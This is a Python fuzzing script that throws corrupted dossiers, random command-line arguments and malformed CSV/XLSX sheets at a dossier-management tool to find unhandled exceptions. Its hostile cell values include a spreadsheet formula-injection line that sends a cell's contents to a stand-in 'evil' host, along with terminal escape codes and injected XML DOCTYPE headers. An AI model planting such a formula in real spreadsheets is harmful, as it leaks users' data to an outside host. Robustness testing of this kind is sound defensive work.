"""
Throw hostile input at the loader and the command line, and count what escapes.

Every input must end in a loaded (and saveable) dossier or one of ketnap's own errors;
a raw exception or a printed traceback is a bug. The test suite runs the same kinds of
input in smaller numbers on every `make test`; this runs them in bulk:

    .venv/bin/python tools/explore_inputs.py --documents 100000 --calls 3000 --sheets 3000

Sheets (.csv and .xlsx, of dossiers and of the tree, quotas and courses) and the setup
JSON files are read with `ketnap.sheets` and given to ``import-sheet`` and ``setup``:
corrupted bytes, hostile cells, other encodings, broken or hostile workbook parts.
"""

from __future__ import annotations

import argparse
import collections
import copy
import functools
import json
import random
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pendulum
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from tests.storage.test_attack import HOSTILE
from tests.storage.test_fuzz import ODD_VALUES, _paths, mutate

from ketnap import KetnapError, Stage, Workflow
from ketnap.cli import cli
from ketnap.storage import checked_dumps, from_document, loads, to_document
from ketnap.testing import make_dossier, walk

MEETING = pendulum.Date(2024, 3, 12)


def shapes() -> list[dict[str, Any]]:
    """Documents of dossiers at four stages, the material every input starts from."""
    workflow = Workflow()
    found = []
    for stage in (Stage.TRAINED, Stage.PROPOSED, Stage.PROBATION, Stage.CARD_ISSUED):
        dossier = make_dossier(meeting=MEETING)
        walk(workflow, dossier, meeting=MEETING, until=stage)
        found.append(to_document(dossier))
    return found


def hostile_document(base: dict[str, Any], rng: random.Random) -> object:
    """One of: a structural mutation, a hostile value at a random place, a corrupted byte."""
    kind = rng.randrange(3)
    if kind == 0:
        return mutate(base, rng)
    if kind == 1:
        edited = copy.deepcopy(base)
        path = rng.choice(_paths(edited)[1:])
        parent: Any = edited
        for key in path[:-1]:
            parent = parent[key]
        parent[path[-1]] = rng.choice(HOSTILE + ODD_VALUES)
        return edited
    text = json.dumps(base, ensure_ascii=False).encode()
    at = rng.randrange(len(text))
    return text[:at] + bytes([rng.randrange(256)]) + text[at + 1 :]


def documents(count: int, rng: random.Random) -> tuple[collections.Counter[str], list[str]]:
    """Load *count* hostile documents; return the outcomes and what escaped as raw errors."""
    outcomes: collections.Counter[str] = collections.Counter()
    escaped: list[str] = []
    bases = shapes()
    for _ in range(count):
        given = hostile_document(rng.choice(bases), rng)
        try:
            dossier = loads(given) if isinstance(given, bytes) else from_document(given)
            checked_dumps(dossier)
            outcomes["loaded and saveable"] += 1
        except KetnapError as exc:
            outcomes[type(exc).__name__] += 1
        except Exception as exc:  # noqa: BLE001 - what this script looks for
            escaped.append(f"{type(exc).__name__}: {exc}"[:160])
    return outcomes, escaped


COMMANDS = [
    ["check", "{file}", "--on", "{date}"],
    ["import", "{file}", "--store", "{store}"],
    ["verify", "--store", "{store}"],
    ["due", "--store", "{store}", "--on", "{date}", "--within", "{number}"],
    ["report", "--store", "{store}", "--unit", "{text}", "--year", "{number}"],
    ["rules", "--regulation", "{text}"],
    ["diagram", "--lang", "{text}"],
]
DATES = ["2024-03-12", "20240312", "2024-02-30", "9999-12-31", "", "\x1b[2J", "0000-01-01"]
NUMBERS = ["15", "-1", "0", "99999999999999", "x", "2024", "1900", "2101"]
TEXTS = ["H", "", "\x00", "24", "29", "294", "a" * 5000, "vi", "en"]


def calls(count: int, rng: random.Random) -> tuple[collections.Counter[int], list[str]]:
    """Run *count* random commands; return the exit codes and what escaped as tracebacks."""
    runner = CliRunner()
    codes: collections.Counter[int] = collections.Counter()
    escaped: list[str] = []
    bases = shapes()
    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        for n in range(count):
            file = tmp / f"f{n % 7}.json"
            what = rng.randrange(4)
            if what == 0:
                file.write_bytes(bytes(rng.randrange(256) for _ in range(rng.randrange(200))))
            elif what == 3:
                file = tmp / "missing.json"
            else:
                given = hostile_document(rng.choice(bases), rng) if what == 1 else bases[0]
                if isinstance(given, bytes):
                    file.write_bytes(given)
                else:
                    # ASCII escapes: a lone surrogate reaches the command as JSON "\\ud800".
                    file.write_text(json.dumps(given), encoding="utf-8")
            store = rng.choice([tmp / "s.db", tmp / "new.db", file, Path(":memory:"), tmp])
            fields = {
                "file": str(file),
                "store": str(store),
                "date": rng.choice(DATES),
                "number": rng.choice(NUMBERS),
                "text": rng.choice(TEXTS),
            }
            args = [part.format(**fields) for part in rng.choice(COMMANDS)]
            result = runner.invoke(cli, args)
            if result.exception is not None and not isinstance(result.exception, SystemExit):
                escaped.append(f"{args[0]}: {type(result.exception).__name__}")
            elif "Traceback" in result.output or "internal error" in result.output:
                escaped.append(f"{args[0]} printed: {result.output[:100]}")
            else:
                codes[result.exit_code] += 1
    return codes, escaped


# --- sheets and setup files (issue 24) ----------------------------------------------------------

SHEET_VALUES: list[object] = [
    *(value for value in HOSTILE if isinstance(value, str)),
    '=HYPERLINK("http://evil/?"&B2,"x")',
    "'=1+1",
    "\x1b[2J",
    "\u0085",
    "A" * 200_000,
    "99999999999999999999/01/1999",
    "٢٠/٠٥/١٩٩٨",
    "２０/０５/１９９８",
    "31/02/2000",
    "NaN",
    "1" + "0" * 400,
    "-1",
    "",
]
# Cells as a workbook's XML holds them: what openpyxl parses itself.
CELL_XML = [
    b'<c r="C2"><v>NaN</v></c>',
    b'<c r="C2" t="d"><v>x</v></c>',
    b'<c r="C2"><v>' + b"9" * 5000 + b"</v></c>",
    b'<c r="C2"><v>1e400</v></c>',
    b'<c r="C2" t="s"><v>99</v></c>',
    b'<c r="C2" t="b"><v>x</v></c>',
    b'<c r="XFD2"><v>1</v></c>',
    b'<c r="A9999999"><v>1</v></c>',
    b'<c r="C2" t="inlineStr"><is><t>\x1b</t></is></c>',
    b"<c/>" * 300,
]
ENCODINGS = [None, "utf-8", "utf-16", "cp1258"]


def sheet_files(folder: Path) -> dict[str, bytes]:
    """Valid sheets of every kind, the material each hostile sheet starts from."""
    from ketnap.organizations import Course, OrganizationTree, Quotas, Unit  # noqa: PLC0415
    from ketnap.sheets import write_dossiers, write_setup  # noqa: PLC0415

    dossiers = [make_dossier(meeting=MEETING, id=f"HS-{i}") for i in range(2)]
    for dossier in dossiers:
        dossier.sponsors, dossier.certificates, dossier.documents = [], [], {}
    tree = OrganizationTree(
        [
            Unit(code="H", name="Đảng bộ huyện", level="district"),
            Unit(code="C", name="Chi bộ cơ sở", level="base_branch", parent="H", members=9),
        ]
    )
    course = Course(code="K", unit="H", opened_on=MEETING, closed_on=MEETING, trainees=5)
    write_dossiers(folder / "ds.csv", dossiers)
    write_dossiers(folder / "ds.xlsx", dossiers)
    for target in (folder / "tl.xlsx", folder / "tl"):
        write_setup(target, tree=tree, quotas=Quotas({("C", 2024): 2}), courses=[course])
    return {
        path.name: path.read_bytes()
        for path in (*folder.glob("*.*"), *(folder / "tl").glob("*.csv"))
    }


def hostile_sheet(name: str, base: bytes, rng: random.Random) -> tuple[str, bytes]:
    """One of: corrupted bytes, a hostile cell, another encoding, a hostile workbook part."""
    import csv  # noqa: PLC0415
    import io  # noqa: PLC0415
    import zipfile  # noqa: PLC0415

    kind = rng.randrange(4)
    if kind == 0:
        raw = bytearray(base)
        for _ in range(rng.randrange(1, 5)):
            raw[rng.randrange(len(raw))] = rng.randrange(256)
        return name, bytes(raw)
    if name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(base)) as old:
            parts = {info.filename: old.read(info) for info in old.infolist()}
        part = rng.choice(sorted(parts))
        if kind == 1 and part.startswith("xl/worksheets/"):
            cell = rng.choice(CELL_XML)
            parts[part] = parts[part].replace(b"</row>", cell + b"</row>", 1)
        elif kind == 2:
            parts[part] = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "a">]>' + parts[part]
        else:
            parts[part] = parts[part][: rng.randrange(len(parts[part]) + 1)]
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
            for part_name, data in parts.items():
                new.writestr(part_name, data)
        return name, out.getvalue()
    rows = list(csv.reader(io.StringIO(base.decode("utf-8-sig"))))
    if kind == 1:
        row = rng.choice(rows)
        row[rng.randrange(len(row))] = str(rng.choice(SHEET_VALUES))
    text = "".join(",".join(f'"{cell}"' for cell in row) + "\r\n" for row in rows)
    if kind == 2:
        return name, text.encode(
            rng.choice(["utf-16", "utf-16-le", "latin-1", "cp1258"]), "replace"
        )
    return name, text.encode("utf-8", "surrogatepass")


def setup_data(rng: random.Random) -> tuple[str, object]:
    """Tree, quotas or courses data with a hostile value or a structural mutation in it."""
    from ketnap.organizations import Course, OrganizationTree, Unit, course_data  # noqa: PLC0415

    tree = OrganizationTree(
        [
            Unit(code="H", name="Đảng bộ huyện", level="district"),
            Unit(code="C", name="Chi bộ cơ sở", level="base_branch", parent="H", members=9),
        ]
    )
    course = Course(code="K", unit="H", opened_on=MEETING, closed_on=MEETING, trainees=5)
    kind, data = rng.choice(
        [
            ("tree", tree.to_data()),
            ("quotas", [{"unit": "C", "year": 2024, "admissions": 2}]),
            ("courses", [course_data(course)]),
        ]
    )
    if rng.randrange(2):
        return kind, mutate({"data": data}, rng)
    edited: Any = {"data": copy.deepcopy(data)}
    path = rng.choice(_paths(edited)[1:])
    parent: Any = edited
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = rng.choice([*HOSTILE, *SHEET_VALUES, 10**400, ["x"], {"x": 1}, True])
    return kind, edited


def sheets(count: int, rng: random.Random) -> tuple[collections.Counter[str], list[str]]:
    """Read *count* hostile sheets and setup files, directly and through the commands."""
    from ketnap.organizations import OrganizationTree, Quotas, courses_from_data  # noqa: PLC0415
    from ketnap.sheets import read_dossiers, read_setup  # noqa: PLC0415

    readers = {"tree": OrganizationTree.from_data, "quotas": Quotas.from_data,
               "courses": courses_from_data}  # fmt: skip
    outcomes: collections.Counter[str] = collections.Counter()
    escaped: list[str] = []
    runner = CliRunner()
    workflow = Workflow()
    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        bases = sheet_files(tmp)
        for n in range(count):
            encoding = rng.choice(ENCODINGS)
            store = tmp / f"s{n % 5}.db"
            call: Callable[[], object]
            if rng.randrange(5) == 0:  # the tree, quotas or courses as JSON
                kind, data = setup_data(rng)
                given = data["data"] if isinstance(data, dict) and "data" in data else data
                file = tmp / f"{kind}.json"
                file.write_text(json.dumps(given, ensure_ascii=False), encoding="utf-8",
                                errors="surrogatepass")  # fmt: skip
                args = ["setup", "--store", str(store), f"--{kind}", str(file)]
                call = functools.partial(readers[kind], given)
            else:
                name, content = hostile_sheet(*rng.choice(sorted(bases.items())), rng)
                file = tmp / f"h{n % 7}{Path(name).suffix}"
                file.write_bytes(content)
                if name.startswith("ds"):
                    args = ["import-sheet", "--store", str(store), str(file)]
                    call = functools.partial(
                        read_dossiers, file, workflow=workflow, encoding=encoding
                    )
                else:
                    args = ["setup", "--store", str(store), "--sheet", str(file)]
                    call = functools.partial(read_setup, file, encoding=encoding)
                if encoding is not None:
                    args += ["--encoding", encoding]
            if rng.randrange(2):
                try:
                    call()
                    outcomes["read"] += 1
                except KetnapError as exc:
                    outcomes[type(exc).__name__] += 1
                except Exception as exc:  # noqa: BLE001 - what this script looks for
                    escaped.append(f"{args[0]} (library): {type(exc).__name__}: {exc}"[:160])
                continue
            result = runner.invoke(cli, args)
            if result.exception is not None and not isinstance(result.exception, SystemExit):
                escaped.append(f"{args[0]}: {type(result.exception).__name__}")
            elif "Traceback" in result.output or "internal error" in result.output:
                escaped.append(f"{args[0]} printed: {result.output[:100]}")
            else:
                outcomes[f"exit {result.exit_code}"] += 1
    return outcomes, escaped


def main() -> int:
    """Run both explorations; exit 1 if anything escaped."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[1] if __doc__ else None)
    parser.add_argument("--documents", type=int, default=100_000)
    parser.add_argument("--calls", type=int, default=3_000)
    parser.add_argument("--sheets", type=int, default=3_000,
                        help="hostile sheets and setup files, read and imported")  # fmt: skip
    parser.add_argument("--seed", type=int, default=11)
    options = parser.parse_args()
    rng = random.Random(options.seed)  # noqa: S311 - reproducible, not secret
    outcomes, loader_escaped = documents(options.documents, rng)
    print(f"documents={options.documents} {dict(outcomes)}")  # noqa: T201
    codes, cli_escaped = calls(options.calls, rng)
    print(f"calls={options.calls} exit codes {dict(sorted(codes.items()))}")  # noqa: T201
    read, sheets_escaped = sheets(options.sheets, rng)
    print(f"sheets={options.sheets} {dict(sorted(read.items()))}")  # noqa: T201
    escaped = loader_escaped + cli_escaped + sheets_escaped
    for line in escaped:
        print(f"ESCAPED {line}")  # noqa: T201
    print(f"escaped={len(escaped)}")  # noqa: T201
    return 1 if escaped else 0


if __name__ == "__main__":
    raise SystemExit(main())
